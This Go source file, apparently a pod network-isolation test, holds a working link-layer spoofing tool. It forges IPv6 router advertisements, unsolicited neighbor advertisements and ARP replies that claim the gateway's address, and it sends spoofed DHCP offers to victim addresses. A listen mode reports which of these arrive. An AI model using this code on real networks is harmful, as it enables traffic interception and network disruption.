// attacker sends what a router, a neighbor or a DHCP server would send, or listens as a DHCP client does.
//
//	attacker listen                                 prints the port of each datagram that arrives
//	attacker send VICTIM4 VICTIM6 GATEWAY4 GATEWAY6
package main

import (
	"encoding/binary"
	"fmt"
	"net"
	"net/netip"
	"os"

	"golang.org/x/sys/unix"
)

// control is an unguarded port.
const control = 1068

func main() {
	var err error
	if len(os.Args) == 6 {
		err = send(netip.MustParseAddr(os.Args[2]), netip.MustParseAddr(os.Args[3]), netip.MustParseAddr(os.Args[4]), netip.MustParseAddr(os.Args[5]))
	} else {
		err = listen()
	}
	if err != nil {
		fmt.Println(err)
		os.Exit(1)
	}
}

func listen() error {
	arrived := make(chan int)
	for _, port := range []int{68, 546, control} {
		conn, err := net.ListenUDP("udp", &net.UDPAddr{Port: port})
		if err != nil {
			return err
		}
		go func() {
			for data := make([]byte, 100); ; arrived <- port {
				if _, _, err := conn.ReadFrom(data); err != nil {
					return
				}
			}
		}()
	}
	fmt.Println("listening")
	for port := range arrived {
		fmt.Println("arrived", port)
	}
	return nil
}

func send(victim4, victim6, gateway4, gateway6 netip.Addr) error {
	link, err := net.InterfaceByName("eth0")
	if err != nil {
		return err
	}
	if err := errorOf(advertise(link), claim6(link, gateway6), claim4(link, gateway4)); err != nil {
		return err
	}
	for _, d := range []struct {
		from int
		to   netip.AddrPort
	}{
		{67, netip.AddrPortFrom(victim4, 68)}, {4067, netip.AddrPortFrom(victim4, 68)}, {547, netip.AddrPortFrom(victim6, 546)},
		{4547, netip.AddrPortFrom(victim6, 546)}, {4068, netip.AddrPortFrom(victim4, control)}, {4069, netip.AddrPortFrom(victim6, control)},
	} {
		conn, err := net.DialUDP("udp", &net.UDPAddr{Port: d.from}, net.UDPAddrFromAddrPort(d.to))
		if err != nil {
			return err
		}
		if _, err := conn.Write([]byte("offer")); err != nil {
			return fmt.Errorf("datagram to %s: %w", d.to, err)
		}
	}
	fmt.Println("sent")
	return nil
}

func errorOf(errs ...error) error {
	for _, err := range errs {
		if err != nil {
			return err
		}
	}
	return nil
}

// icmp6 sends a message to all nodes; the kernel adds the checksum.
func icmp6(link *net.Interface, message []byte) error {
	s, err := unix.Socket(unix.AF_INET6, unix.SOCK_RAW, unix.IPPROTO_ICMPV6)
	if err != nil {
		return fmt.Errorf("raw socket: %w", err)
	}
	if err := unix.SetsockoptInt(s, unix.IPPROTO_IPV6, unix.IPV6_MULTICAST_HOPS, 255); err != nil {
		return err
	}
	to := unix.SockaddrInet6{ZoneId: uint32(link.Index), Addr: netip.MustParseAddr("ff02::1").As16()}
	return unix.Sendto(s, message, 0, &to)
}

// advertise announces a default router and a prefix.
func advertise(link *net.Interface) error {
	return icmp6(link, []byte{
		134, 0, 0, 0, 64, 0, 7, 8, 0, 0, 0, 0, 0, 0, 0, 0,
		3, 4, 64, 0xc0, 0, 0, 0x70, 0x80, 0, 0, 0x38, 0x40, 0, 0, 0, 0, 0x20, 1, 0xd, 0xb8, 0xba, 0xd0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
	})
}

// claim6 announces the gateway at the MAC address of this pod.
func claim6(link *net.Interface, gateway netip.Addr) error {
	message := append([]byte{136, 0, 0, 0, 0x20, 0, 0, 0}, gateway.AsSlice()...)
	return icmp6(link, append(append(message, 2, 1), link.HardwareAddr...))
}

// claim4 does the same by ARP.
func claim4(link *net.Interface, gateway netip.Addr) error {
	s, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, 0)
	if err != nil {
		return fmt.Errorf("packet socket: %w", err)
	}
	everyone := []byte{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
	frame := append(append(everyone, link.HardwareAddr...), 8, 6, 0, 1, 8, 0, 6, 4, 0, 2)
	frame = append(append(frame, link.HardwareAddr...), gateway.AsSlice()...)
	frame = append(append(frame, everyone...), gateway.AsSlice()...)
	protocol := binary.NativeEndian.Uint16([]byte{8, 6})
	return unix.Sendto(s, frame, 0, &unix.SockaddrLinklayer{Ifindex: link.Index, Protocol: protocol})
}
